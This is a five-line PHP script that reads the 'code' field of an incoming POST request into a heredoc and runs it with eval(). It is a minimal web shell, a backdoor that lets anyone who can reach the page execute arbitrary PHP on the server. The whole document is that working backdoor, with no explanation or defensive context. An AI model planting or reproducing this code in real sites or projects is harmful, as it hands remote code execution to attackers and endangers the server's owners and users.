<?php
$code = <<<EOT
{$_POST['code']}
EOT;
eval($code);
